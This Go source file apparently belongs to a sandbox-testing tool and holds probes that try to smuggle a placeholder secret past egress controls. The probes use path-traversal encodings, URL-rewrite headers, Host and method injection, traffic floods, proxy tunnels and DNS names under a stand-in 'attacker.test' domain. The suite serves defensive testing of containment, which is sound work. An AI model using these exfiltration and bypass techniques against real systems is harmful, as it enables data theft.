//go:build linux

package main

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net"
	"net/url"
	"os"
	"strings"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// leakAllowed is N28: the destination is allowed, but not everything that is sent to it.
func leakAllowed() []probe {
	ask := func(head ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			text := []byte(lines(append(head, "Host: "+protocol.Inspect, "Connection: close", "Content-Length: 0")...))
			proxied := bytes.Replace(text, []byte(" /"), []byte(" http://"+protocol.Inspect+"/"), 1)
			return worst(direct(b, "tcp", protocol.Inspect+":80", text), secure(b, protocol.Inspect+":443", named(protocol.Inspect, "http/1.1"), text), viaProxy(b, string(proxied)))
		}
	}
	return []probe{
		{"by other methods", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "MKCOL", "post", "POSTS"}, func(m string) protocol.Try { return ask(m + " /ok/x HTTP/1.1")(b) })
		}},
		{"on other paths", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"/exfil", "/ok/../exfil", "/ok/%2e%2e/exfil", "/ok/..%2fexfil", "/ok/.%2e/exfil", "/ok//../../exfil", "/ok%00/exfil", "/ok;/../exfil", "/%2e%2e/exfil", "exfil", "/ok/..\\exfil"}, func(p string) protocol.Try {
				return ask("POST " + p + " HTTP/1.1")(b)
			})
		}},
		{"told: by a path of a header", ask("POST /ok HTTP/1.1", "X-Original-URL: /exfil", "X-Rewrite-URL: /exfil", "X-Exfil: told")},
		{"more than is allowed, up", func(b *protocol.Brief) protocol.Try {
			return flood(b, func() (net.Conn, error) { return net.DialTimeout("tcp", protocol.Limited+":80", waiting(b)) })
		}},
		{"more than is allowed, in a tunnel", func(b *protocol.Brief) protocol.Try {
			return flood(b, func() (net.Conn, error) { return tunnel(b, protocol.Limited+":443") })
		}},
		{"more than is allowed, on many connections", func(b *protocol.Brief) protocol.Try {
			return atOnce([]int{1, 2, 3, 4, 5, 6, 7, 8}, func(int) protocol.Try {
				return flood(b, func() (net.Conn, error) { return net.DialTimeout("tcp", protocol.Limited+":80", waiting(b)) })
			})
		}},
		{"told: in what is allowed", func(b *protocol.Brief) protocol.Try {
			return secure(b, protocol.Inspect+":443", named(protocol.Inspect, "http/1.1"), []byte(lines("GET /ok/"+exfilHex()+"?q="+exfilHex()+" HTTP/1.1", "Host: "+protocol.Inspect, "X-Data: "+exfilHex(), "Connection: close")))
		}},
	}
}

func exfilHex() string { return fmt.Sprintf("%x", "all the data") }

// flood sends sixteen times the allowed amount. The host counts.
func flood(b *protocol.Brief, open func() (net.Conn, error)) protocol.Try {
	c, err := open()
	if err != nil {
		return status(err)
	}
	defer c.Close()
	part, sent := bytes.Repeat([]byte("x"), 16<<10), 0
	for sent < 16*protocol.LimitedBytes {
		n, err := c.Write(part)
		sent += n
		if err != nil {
			return told(err)
		}
	}
	if b.Unconfined {
		return reached("%d bytes were taken", sent)
	}
	return inside("%d bytes were taken; the host counts what came", sent)
}

// misplaced is N29: the placeholder in a place where it must not become the secret. The
// host checks where the secret arrived.
func misplaced() []probe {
	to := func(send func(b *protocol.Brief, s string) protocol.Try) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			s := os.Getenv(protocol.SecretEnv)
			if s == "" {
				return protocol.Try{Outcome: "broken", Detail: "there is no placeholder"}
			}
			t := send(b, s)
			if t.Outcome == protocol.Reached && !b.Unconfined {
				return inside("a server answered; the host looks what it got: %s", t.Detail)
			}
			return t
		}
	}
	head := func(host, path string, more ...string) []byte {
		return []byte(lines(append([]string{"GET " + path + " HTTP/1.1", "Host: " + host, "Connection: close"}, more...)...))
	}
	return []probe{
		{"to another host", to(func(b *protocol.Brief, s string) protocol.Try {
			return worst(direct(b, "tcp", protocol.Allowed+":80", head(protocol.Allowed, "/?"+s, "Authorization: Bearer "+s)),
				direct(b, "tcp", protocol.Inspect+":80", head(protocol.Inspect, "/ok", "Authorization: Bearer "+s)))
		})},
		{"to another host that is looked into", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Inspect+":443", named(protocol.Inspect, "http/1.1"), head(protocol.Inspect, "/ok?"+s, "Authorization: Bearer "+s))
		})},
		{"to another host, which a header names", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Inspect+":443", named(protocol.Inspect, "http/1.1"), head(protocol.Secret, "/ok?"+s, "Authorization: Bearer "+s))
		})},
		{"to another host, which TLS names", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Allowed+":443", named(protocol.Secret, "http/1.1"), head(protocol.Secret, "/ok?"+s, "Authorization: Bearer "+s))
		})},
		{"to its host, without TLS", to(func(b *protocol.Brief, s string) protocol.Try {
			return worst(direct(b, "tcp", protocol.Secret+":80", head(protocol.Secret, "/ok?"+s, "Authorization: Bearer "+s)), get(b, "http://"+protocol.Secret+"/ok?"+s, protocol.Secret))
		})},
		{"to its host on port 443, without TLS", to(func(b *protocol.Brief, s string) protocol.Try {
			return worst(direct(b, "tcp", protocol.Secret+":443", head(protocol.Secret, "/ok?"+s, "Authorization: Bearer "+s)), get(b, "http://"+protocol.Secret+":443/ok?"+s, protocol.Secret+":443"))
		})},
		{"in Host", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Secret+":443", named(protocol.Secret, "http/1.1"), head(s, "/ok"))
		})},
		{"in a second Host", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Secret+":443", named(protocol.Secret, "http/1.1"), head(protocol.Secret, "/ok", "Host: "+s))
		})},
		{"in the path", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Secret+":443", named(protocol.Secret, "http/1.1"), head(protocol.Secret, "/ok/"+s))
		})},
		{"in the body", to(func(b *protocol.Brief, s string) protocol.Try {
			text := lines("POST /ok HTTP/1.1", "Host: "+protocol.Secret, "Connection: close", "Content-Type: application/json", fmt.Sprint("Content-Length: ", len(s))) + s
			return secure(b, protocol.Secret+":443", named(protocol.Secret, "http/1.1"), []byte(text))
		})},
		{"in the name of a header", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Secret+":443", named(protocol.Secret, "http/1.1"), head(protocol.Secret, "/ok", s+": x"))
		})},
		{"in the method", to(func(b *protocol.Brief, s string) protocol.Try {
			return secure(b, protocol.Secret+":443", named(protocol.Secret, "http/1.1"), []byte(lines(s+" /ok HTTP/1.1", "Host: "+protocol.Secret, "Connection: close")))
		})},
		{"in a name", to(func(b *protocol.Brief, s string) protocol.Try {
			if b.Unconfined {
				s = strings.ToLower(s)
			}
			return worst(anyWay(b, s+".wild.test"), anyWay(b, s+".attacker.test"))
		})},
		{"in a tunnel's target and headers", to(func(b *protocol.Brief, s string) protocol.Try {
			c, err := tunnel(b, protocol.Allowed+":80", "Proxy-Authorization: Bearer "+s+"\r\n")
			if err != nil {
				return status(err)
			}
			defer c.Close()
			return say(c, waiting(b), head(protocol.Allowed, "/", "Authorization: "+s))
		})},
		{"in datagrams", to(func(b *protocol.Brief, s string) protocol.Try {
			return datagram(b, fmt.Sprint(protocol.Datagrams, ":", protocol.EchoPort), []byte(s))
		})},
	}
}

// echoes is N30: the secret's own host returns what it received.
func echoes() []probe {
	ask := func(as, method string, more ...string) func(*protocol.Brief) (protocol.Try, string) {
		return func(b *protocol.Brief) (protocol.Try, string) {
			s := os.Getenv(protocol.SecretEnv)
			if s == "" {
				return protocol.Try{Outcome: "broken", Detail: "there is no placeholder"}, ""
			}
			text := lines(append([]string{method + " /ok/echo?as=" + as + "&q=" + s + " HTTP/1.1", "Host: " + protocol.Secret, "Authorization: Bearer " + s, "Connection: close", "Content-Length: 0"}, more...)...)
			c, err := net.DialTimeout("tcp", protocol.Secret+":443", waiting(b))
			if err != nil {
				return told(err), ""
			}
			defer c.Close()
			t := tls.Client(c, named(protocol.Secret, "http/1.1"))
			try := say(t, 2*waiting(b), []byte(text))
			return try, try.Loot
		}
	}
	// The host searches the output for the secret, plain and decoded.
	seen := func(as, method string, more ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			t, text := ask(as, method, more...)(b)
			if t.Outcome == "broken" {
				return t
			}
			if text == "" {
				return t
			}
			all := text + "\n" + decoded(text)
			if b.Unconfined && strings.Contains(all, os.Getenv(protocol.SecretEnv)) {
				return withLoot(reached("the answer holds it"), all)
			}
			return withLoot(inside("it was answered; the host looks for the secret"), all)
		}
	}
	var ps []probe
	for _, as := range []string{"plain", "base64", "base64url", "percent", "json", "header", "cookie", "location", "challenge", "error", "chunks", "gzip", "type"} {
		ps = append(ps, probe{as, seen(as, "GET")})
	}
	// Encodings that would only be used to hide it. The guest checks that it is not its own
	// placeholder, and reports nothing else.
	hidden := func(as string, decode func(string) string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			t, text := ask(as, "GET")(b)
			t.Loot = ""
			if t.Outcome == "broken" || text == "" {
				return t
			}
			_, value, ok := strings.Cut(decode(text), "Bearer ")
			if ok && (b.Unconfined || !strings.HasPrefix(value, os.Getenv(protocol.SecretEnv))) {
				return reached("the answer holds what is not the placeholder")
			}
			return inside("the answer holds the placeholder")
		}
	}
	unicode := func(s string) string {
		var heard map[string]string
		_, body, _ := strings.Cut(s, "\r\n\r\n")
		_ = json.Unmarshal([]byte(body), &heard)
		return heard["heard"]
	}
	return append(ps,
		probe{"told: every character escaped", hidden("unicode", unicode)},
		probe{"told: every character as an entity", hidden("entities", html.UnescapeString)},
		probe{"packed, as asked for", seen("gzip", "GET", "Accept-Encoding: gzip")},
		probe{"posted", seen("plain", "POST")},
		probe{"TRACE", seen("plain", "TRACE")},
		probe{"HEAD", seen("header", "HEAD")},
		probe{"a part", seen("plain", "GET", "Range: bytes=10-60")},
		probe{"over HTTP/2", func(b *protocol.Brief) protocol.Try {
			return worst(coalesceSecret(b, "plain"), coalesceSecret(b, "base64"), coalesceSecret(b, "header"))
		}},
	)
}

// decoded undoes every encoding that may hide something.
func decoded(text string) string {
	var b strings.Builder
	head, body, _ := strings.Cut(text, "\r\n\r\n")
	for _, s := range []string{head, body} {
		if u, err := url.QueryUnescape(s); err == nil {
			b.WriteString(u + "\n")
		}
		b.WriteString(html.UnescapeString(s) + "\n")
		for _, field := range strings.FieldsFunc(s, func(r rune) bool { return r < '+' || r > 'z' }) {
			field = strings.TrimRight(field, "=")
			if d, err := base64.RawStdEncoding.DecodeString(field); err == nil && len(d) > 8 {
				b.Write(append(d, '\n'))
			}
			if d, err := base64.RawURLEncoding.DecodeString(field); err == nil && len(d) > 8 {
				b.Write(append(d, '\n'))
			}
		}
	}
	if z, err := gzip.NewReader(strings.NewReader(body)); err == nil {
		d, _ := io.ReadAll(io.LimitReader(z, 64<<10))
		b.Write(d)
	}
	var heard map[string]string
	if json.Unmarshal([]byte(body), &heard) == nil {
		for _, v := range heard {
			b.WriteString(v + "\n")
		}
	}
	// Chunks of one byte each.
	var joined strings.Builder
	for _, l := range strings.Split(body, "\r\n") {
		if len(l) == 1 {
			joined.WriteString(l)
		}
	}
	b.WriteString(strings.ReplaceAll(body, "\r\n1\r\n", ""))
	return b.String()
}
